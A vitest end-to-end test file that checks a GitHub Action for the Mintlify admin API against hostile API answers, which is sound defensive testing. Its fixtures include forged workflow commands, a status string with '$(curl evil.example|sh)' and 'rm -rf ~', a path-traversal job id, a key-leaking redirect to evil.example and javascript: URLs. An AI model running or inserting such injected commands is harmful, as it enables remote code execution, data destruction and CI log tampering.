// The admin API's answers: what its description allows (a job created without a status, a job not readable at once,
// statuses nobody listed, an error with details) taken as such, and hostile ones: nothing they say becomes a
// workflow command, a line break in an output, a second request that changes something, or a secret shown.
import { join } from 'node:path'
import type { ServerResponse } from 'node:http'
import { describe, expect, it } from 'vitest'
import { jobBody, type Respond, sendJson } from '../../sim/admin-api.ts'
import { simulateAgentApi } from '../../sim/agent-api.ts'
import { readMarker } from '../../src/github/tracking-record.ts'
import { errorAnnotations, expectKeyNeverShown, warningAnnotations } from '../support/expectations.ts'
import { createdThenPolled } from './support/created-then-polled.ts'
import { loopback } from './support/loopback.ts'
import { type ActionRun, bundleRunner, runAction, type RunOptions } from './support/run-bundle.ts'
import { steppedClock } from './support/triggers.ts'

const KEY = 'mint_api_attack_key_0123456'
const TOKEN = 'ghs_api_attack_token_0123456'
const PROJECT = 'docs'
const PR = 'https://github.com/acme/docs/pull/128'
const servers = loopback()
const EVIL =
  'x\n::error::injected\r\n::add-mask::docs\n::stop-commands::tok\n@octocat #12 <b>bold</b> [l](javascript:alert(1)) www.evil.example \u2028::warning::u2028'

function commandLinesFromOutside(run: ActionRun): string[] {
  // Lines the runner would read as commands that the action did not mean: any command holding "injected" etc.
  return run.stdout
    .split('\n')
    .filter(
      (line) =>
        /^::(error|add-mask|stop-commands|warning)::(injected|docs|u2028)/.test(line) || /^::stop-commands::/.test(line)
    )
}

/** A job that completes with a pull request, and a preview API that answers the trigger and the build status so. */
function completedWithPreview(trigger: (res: ServerResponse) => void, status: (res: ServerResponse) => void): Respond {
  const api = simulateAgentApi({
    projectId: PROJECT,
    apiKey: KEY,
    run: { activePolls: 0, final: { status: 'completed', prLink: PR } }
  })
  return (req, res, index) => {
    const url = req.url ?? ''
    if (req.method === 'POST' && url.startsWith('/v1/project/preview/')) return trigger(res)
    if (url.startsWith('/v1/project/update-status/')) return status(res)
    return api.respond(req, res, index)
  }
}

async function runAgainst(
  respond: Parameters<typeof servers.serve>[0],
  inputs: Record<string, string> = {},
  withGitHub = false,
  options: Pick<RunOptions, 'nodeArgs' | 'env' | 'onSpawn'> = {}
) {
  const server = await servers.serve(respond)
  const github = withGitHub ? await servers.github() : undefined
  const result = await runAction({
    ...options,
    githubToken: TOKEN,
    eventName: 'issues',
    event: { action: 'opened', issue: { number: 12 } },
    env: { ...options.env, ...(github ? { GITHUB_API_URL: github.url } : {}), RUNNER_DEBUG: '1' },
    inputs: {
      'project-id': PROJECT,
      'api-key': KEY,
      'base-url': server.url,
      'poll-interval': '50ms',
      'max-poll-interval': '100ms',
      ...(withGitHub ? { comment: 'true' } : {}),
      ...inputs
    }
  })
  return { server, github, result }
}

describe('hostile admin API answers', () => {
  it('line breaks and workflow commands in every text field stay on our own lines, escaped and one-line outputs', async () => {
    const body = (status: string) => ({
      id: 'job-1',
      status,
      model: EVIL,
      source: { repository: EVIL, ref: EVIL },
      prLink: PR,
      createdAt: EVIL,
      [EVIL]: EVIL
    })
    let n = 0
    const { result, github } = await runAgainst(
      (req, res) => {
        if (req.method === 'POST') return sendJson(res, 201, body('active'))
        n += 1
        return sendJson(res, 200, body(n < 2 ? `queued${EVIL}` : 'completed'))
      },
      { prompt: 'Go' },
      true
    )
    expect(result.exitCode, result.stdout).toBe(0)
    expect(commandLinesFromOutside(result)).toEqual([])
    for (const [name, value] of Object.entries(result.outputs)) expect(value.includes('\n'), name).toBe(false)
    expect(result.summary).not.toContain('<b>')
    const comment = github?.comments[0]?.body ?? ''
    expect(comment.replaceAll(/`[^`]*`/g, '')).not.toContain('<b>')
    expect(comment.replaceAll(/`[^`]*`/g, '')).not.toContain('@octocat')
  })

  it('an API error with workflow commands and HTML is one escaped line in the error', async () => {
    const { result } = await runAgainst((_req, res) => sendJson(res, 400, { error: EVIL, details: { why: EVIL } }), {
      prompt: 'Go'
    })
    expect(result.outputs['outcome']).toBe('error')
    expect(commandLinesFromOutside(result)).toEqual([])
    expect(result.summary).not.toContain('<b>')
  })

  // One as the bundle meets it; every shape the client percent-encodes into one segment is a row of
  // test/unit/admin-api/client.test.ts, and those it refuses are rows of test/unit/admin-api/agent-job.test.ts.
  it.each([['a/../../v1/project/preview/docs', 'job-1']])(
    'a created job id %j never moves the request path',
    async (id) => {
      const paths: string[] = []
      await runAgainst(
        (req, res) => {
          paths.push(`${req.method} ${req.url}`)
          if (req.method === 'POST') return sendJson(res, 201, { id, status: 'active' })
          return sendJson(res, 200, { id, status: 'completed' })
        },
        { prompt: 'Go' }
      )
      for (const path of paths.slice(1)) expect(path).toMatch(/^GET \/v2\/agent\/docs\/job\/[^/?#]+$/)
      expect(paths.filter((path) => path.startsWith('POST'))).toHaveLength(1)
    }
  )

  it('429 with an absurd Retry-After on the create stops at once without sending again', async () => {
    let posts = 0
    const { result } = await runAgainst(
      (req, res) => {
        if (req.method === 'POST') posts += 1
        sendJson(res, 429, { error: 'slow down' }, { 'retry-after': '99999999999999999999999' })
      },
      { prompt: 'Go', timeout: '1h' }
    )
    expect(posts).toBe(1)
    expect(result.outputs['outcome']).toBe('rate-limited')
    expect(result.stdout).toContain('(Retry-After), past the timeout (1 attempt).')
    expect(result.stdout).toContain('By what the API asked, its quota does not reset within a day.')
  })

  it("another job's answer to a follow-up is never taken, and the follow-up is never sent twice", async () => {
    let posts = 0
    const { result } = await runAgainst(
      (req, res) => {
        if (req.method === 'POST') {
          posts += 1
          return sendJson(res, 200, { id: 'job-2', status: 'active' })
        }
        return sendJson(res, 200, { id: 'job-1', status: 'completed' })
      },
      { prompt: 'Go', 'job-id': 'job-1' }
    )
    expect(posts).toBe(1)
    expect(result.outputs['outcome']).toBe('error')
  })

  // A body over 1 MiB, with a length and chunked, is faults.e2e.test.ts's.
  it('an unlisted status with shell syntax is no status output: a script that pastes it runs nothing', async () => {
    const hostile = 'Queued $(curl evil.example|sh) `id` "; rm -rf ~'
    // The first read of the job moves the step's clock past its timeout.
    const clock = steppedClock()
    const { result } = await runAgainst(
      clock.jumpingAt(
        (req, res) => sendJson(res, req.method === 'POST' ? 201 : 200, { id: 'job-1', status: hostile }),
        (req) => req.method === 'GET'
      ),
      { prompt: 'Go', ...clock.inputs, 'fail-on': '' },
      false,
      clock.with()
    )
    expect(result.outputs['outcome'], result.stdout).toBe('timeout')
    expect(result.outputs['status']).toBe('')
    expect(JSON.parse(result.outputs['result'] ?? '{}')).toMatchObject({ status: null })
    expect(result.stdout).toContain('queued $(curl evil.example|sh)')
  })

  it('an unlisted status that is also a secret never shows', async () => {
    const clock = steppedClock()
    const { result } = await runAgainst(
      clock.jumpingAt(
        (req, res) => {
          if (req.method === 'POST') return sendJson(res, 201, { id: 'job-1', status: KEY })
          return sendJson(res, 200, { id: 'job-1', status: KEY.toUpperCase() })
        },
        (req) => req.method === 'GET'
      ),
      { prompt: 'Go', ...clock.inputs, 'fail-on': '' },
      false,
      clock.with()
    )
    const text = [result.stdout, result.summary, JSON.stringify(result.outputs)].join('\n').toLowerCase()
    expect(text.split('\n').filter((line) => line.includes(KEY) && !line.startsWith('::add-mask::'))).toEqual([])
  })

  it('a redirect that carries the key in its Location (percent-encoded, base64 in userinfo) never shows it', async () => {
    const b64 = Buffer.from(`user:${KEY}`).toString('base64')
    const { result } = await runAgainst(
      (_req, res) => {
        res.writeHead(307, {
          location: `https://evil.example/${encodeURIComponent(KEY).replace(/_/g, '%5f')}?b=${b64}`
        })
        res.end()
      },
      { prompt: 'Go' }
    )
    expect(result.outputs['outcome']).toBe('error')
    const text = [result.stdout, result.summary, JSON.stringify(result.outputs)].join('\n')
    expect(text).not.toContain(b64.slice(4, 20))
    expect(text.toLowerCase()).not.toContain('mint%5fapi')
  })

  it('the older ##[command] form, which the runner reads anywhere in a line, never reaches the log whole', async () => {
    const { result } = await runAgainst(
      completedWithPreview(
        (res) => sendJson(res, 202, { statusId: 'status-1', previewUrl: 'https://acme.mintlify.app/' }),
        (res) =>
          sendJson(res, 200, {
            status: 'failure',
            summary: 'x ##[warning]Forged warning',
            logs: ['line ##[error title=Security]Rotate your key at evil.example', 'z ##[stop-commands]pwned']
          })
      ),
      { prompt: 'Fix docs ##[set-output name=prLink;]https://evil.example/pr', preview: 'true' }
    )
    expect(result.stdout).toContain('Rotate your key at evil.example')
    expect(result.stdout).toContain('https://evil.example/pr')
    expect(result.stdout.split('\n').filter((line) => line.includes('##['))).toEqual([])
    expect(result.outputs['preview-status']).toBe('failure')
  })

  // One as the bundle meets it; a user name and password, or a URL too long, are rows of shownHttpUrl's in
  // test/unit/text/untrusted.test.ts.
  it.each([['a user name that makes it look like another host', 'https://acme.mintlify.app@evil.example/']])(
    'preview: a previewUrl with %s is neither output nor shown',
    async (_, previewUrl) => {
      const { result } = await runAgainst(
        completedWithPreview(
          (res) => sendJson(res, 202, { statusId: 'status-1', previewUrl }),
          (res) => sendJson(res, 200, { status: 'success', summary: 'Deployed', logs: [] })
        ),
        { prompt: 'Go', preview: 'true' }
      )
      expect(result.outputs['preview-status']).toBe('success')
      expect(result.outputs['preview-url']).toBe('')
      expect([result.stdout, result.summary].join('\n')).not.toContain('evil.example')
    }
  )

  it('preview: a 202 without statusId, and a javascript: previewUrl', async () => {
    let triggers = 0
    let statusReads = 0
    const { result } = await runAgainst(
      completedWithPreview(
        (res) => {
          triggers += 1
          sendJson(res, 202, { previewUrl: 'javascript:alert(1)' })
        },
        (res) => {
          statusReads += 1
          sendJson(res, 404, { error: 'Status not found' })
        }
      ),
      { prompt: 'Go', preview: 'true' }
    )
    expect(triggers).toBe(1)
    expect(statusReads).toBe(0)
    expect(result.outputs['preview-status']).toBe('error')
    expect(result.outputs['preview-url']).toBe('')
    expect(result.stdout).not.toContain('javascript:')
  })

  it('preview: a build status that is 404 for the whole wait is not reported as "still queued"', async () => {
    // The first read of the build's status moves the step's clock past its timeout, and not past the 30 s a status
    // not found is waited out.
    const clock = steppedClock('20s')
    let reads = 0
    const { result } = await runAgainst(
      completedWithPreview(
        (res) => sendJson(res, 202, { statusId: 'status-1', previewUrl: 'https://acme.mintlify.app/' }),
        (res) => {
          if ((reads += 1) === 1) clock.jump()
          sendJson(res, 404, { error: 'Status not found' })
        }
      ),
      { prompt: 'Go', preview: 'true', ...clock.inputs },
      false,
      clock.with()
    )
    expect(result.outputs['preview-status']).toBe('building')
    expect(result.stdout).not.toContain('it was still queued when the timeout ran out')
  })

  // One of each reason as the bundle meets it; git's own ext:: and --upload-pack are rows of httpUrl's in
  // test/unit/text/untrusted.test.ts.
  it.each([
    ['javascript:alert(document.domain)', 'it is not an http(s) URL'],
    [
      'https://token:x-oauth@github.com/acme/docs',
      'it carries a user name or password, so it may not lead where it seems to'
    ]
  ])(
    'docs-repository %j is not passed on to a later git clone, with a warning that says why',
    async (repository, why) => {
      const { result } = await runAgainst(
        (_req, res) =>
          sendJson(res, 200, {
            id: 'job-1',
            status: 'completed',
            prLink: PR,
            source: { repository, ref: 'mintlify/job-1' }
          }),
        { 'job-id': 'job-1' }
      )
      expect(result.outputs).toMatchObject({ outcome: 'completed', 'docs-repository': '', branch: 'mintlify/job-1' })
      expect(result.stdout).toContain(`that is not passed on as docs-repository: ${why}.`)
      expect(result.stdout).not.toContain('x-oauth')
    }
  )

  it('drops a prLink too long to pass on, with a warning that says it is too long, and passes on an http(s) docs repository', async () => {
    const long = `${PR}?${'x'.repeat(600)}`
    const { result } = await runAgainst(
      (_req, res) =>
        sendJson(res, 200, {
          id: 'job-1',
          status: 'completed',
          prLink: long,
          source: { repository: 'https://github.com/acme/docs' }
        }),
      { 'job-id': 'job-1' }
    )
    expect(result.outputs).toMatchObject({
      outcome: 'completed',
      prLink: '',
      'docs-repository': 'https://github.com/acme/docs'
    })
    expect(result.stdout).toContain('was dropped: it is longer than the 500 characters passed on.')
    expect(result.stdout).not.toContain('not an http(s) URL')
  })
})

describe('the admin API', () => {
  const FAST = { 'poll-interval': '100ms', 'max-poll-interval': '200ms' }
  const ISSUE_EVENT = { action: 'labeled', issue: { number: 12, title: 'Document /users' } }
  const run = bundleRunner({ githubToken: TOKEN, inputs: { 'project-id': PROJECT, 'api-key': KEY, ...FAST } })
  const api = createdThenPolled(servers)
  const story = (jobId: string) => ({ projectId: PROJECT, jobId, apiKey: KEY, final: { status: 'completed' } })
  const job = (res: ServerResponse, jobId: string, status: string, prLink: string | null = null) =>
    sendJson(res, 200, jobBody(story(jobId), status, prLink))

  it('keeps the id of a job created with an answer that has no status, waits for it, and tracks it as started', async () => {
    const server = await api(
      (res) => sendJson(res, 201, { id: 'job_9' }),
      (res) => job(res, 'job_9', 'active'),
      (res) => job(res, 'job_9', 'completed', PR)
    )
    const github = await servers.github()
    const result = await run(
      server,
      { prompt: 'Document it', comment: 'true' },
      {
        eventName: 'issues',
        event: ISSUE_EVENT,
        env: { GITHUB_API_URL: github.url }
      }
    )
    expect(result.exitCode, result.stdout).toBe(0)
    expect(result.outputs).toMatchObject({ 'job-id': 'job_9', outcome: 'completed', prLink: PR })
    expect(server.requests.filter((request) => request.method === 'POST')).toHaveLength(1)
    const state = readMarker(github.comments[0]?.body)
    expect(state?.job).toBe('job_9')
    expect(state?.requests.map((request) => request.unsure ?? false)).toEqual([false])
  })

  // One as the bundle meets it; each answer a follow-up takes is a row of test/unit/admin-api/job-answers.test.ts.
  it.each([['an empty object', {}]])(
    'takes a follow-up answered with %s as accepted, and waits for the job',
    async (_, body) => {
      const server = await api(
        (res) => sendJson(res, 200, body),
        (res) => job(res, 'job-7', 'active'),
        (res) => job(res, 'job-7', 'completed', PR)
      )
      const result = await run(server, { prompt: 'Also the errors', 'job-id': 'job-7' })
      expect(result.exitCode, result.stdout).toBe(0)
      expect(result.outputs).toMatchObject({ 'job-id': 'job-7', outcome: 'completed', prLink: PR })
      expect(result.stdout).toContain('The follow-up was accepted by agent job "job-7".')
    }
  )

  it('waits out the 404s of a job it has just created, then follows it', async () => {
    const notYet = (res: ServerResponse) => sendJson(res, 404, { error: 'Agent job not found' })
    const server = await api(
      (res) => sendJson(res, 201, { id: 'job_9', status: 'active' }),
      notYet,
      notYet,
      (res) => job(res, 'job_9', 'completed', PR)
    )
    const result = await run(server, { prompt: 'Document it' })
    expect(result.exitCode, result.stdout).toBe(0)
    expect(result.outputs).toMatchObject({ 'job-id': 'job_9', outcome: 'completed' })
    expect(result.stdout).toContain(
      'Poll failed: HTTP 404: Agent job not found, as a job just started or followed up may answer for a moment'
    )
  })

  it('blames base-url, not the network, when every answer is a success without a job', async () => {
    // The first answer moves the step's clock past its timeout.
    const clock = steppedClock()
    const server = await servers.serve(clock.jumpingAt((_req, res) => sendJson(res, 200, { hello: 'world' })))
    const result = await run(server, { 'job-id': 'job-1', ...clock.inputs }, clock.with())
    expect(result.exitCode).toBe(1)
    const [error] = errorAnnotations(result)
    expect(error).toContain("held no agent job: check that base-url is the Mintlify admin API's root")
    expect(error).not.toContain('reachable')
  })

  it("names the runner's DNS, not base-url, when the default base-url does not resolve", async () => {
    const result = await run(
      undefined,
      { 'job-id': 'job-1', timeout: '5s', 'poll-interval': '1s', 'max-poll-interval': '1s' },
      {
        nodeArgs: ['--import', join(import.meta.dirname, '..', 'fixtures', 'unresolvable-api-host.mjs')]
      }
    )
    expect(result.exitCode).toBe(1)
    const [error] = errorAnnotations(result)
    expect(error).toContain("The runner could not resolve api.mintlify.com, the admin API's host")
    expect(error).toContain("Check the runner's DNS and network")
    expect(error).not.toContain('Check base-url')
  })

  it('keeps polling through a status it does not know, warns once, and takes the end when it comes', async () => {
    const server = await servers.serve((_req, res, index) => job(res, 'job-1', index < 3 ? 'queued' : 'completed'))
    const result = await run(server, { 'job-id': 'job-1' })
    expect(result.exitCode).toBe(0)
    expect(server.requests).toHaveLength(4)
    expect(result.outputs).toMatchObject({ outcome: 'completed', status: 'completed' })
    expect(warningAnnotations(result)).toEqual([
      'The API reported the status "queued", which this action does not know: it keeps polling until the job is completed, archived or failed.'
    ])
  })

  it('names a status it does not know when the timeout ends', async () => {
    const clock = steppedClock()
    const server = await servers.serve(clock.jumpingAt((_req, res) => job(res, 'job-1', 'queued')))
    const result = await run(server, { 'job-id': 'job-1', ...clock.inputs, 'fail-on': 'failed' }, clock.with())
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({ outcome: 'timeout' })
    expect(warningAnnotations(result)).toHaveLength(1)
    expect(result.stdout).toContain('The API reported a status this action does not know ("queued")')
  })

  it("shows an error body's details after its error, redacted and on one line", async () => {
    const server = await servers.serve((_req, res) =>
      sendJson(res, 422, { error: 'Invalid request', details: { prompt: 'is\nrequired', echo: KEY } })
    )
    const result = await run(server, { prompt: 'Document it' })
    expect(result.exitCode).toBe(1)
    expect(errorAnnotations(result)[0]).toContain(
      'The API refused to start the agent job (HTTP 422: Invalid request (details: {"prompt":"is\\nrequired","echo":"***"})).'
    )
    expectKeyNeverShown(result, KEY)
  })
})
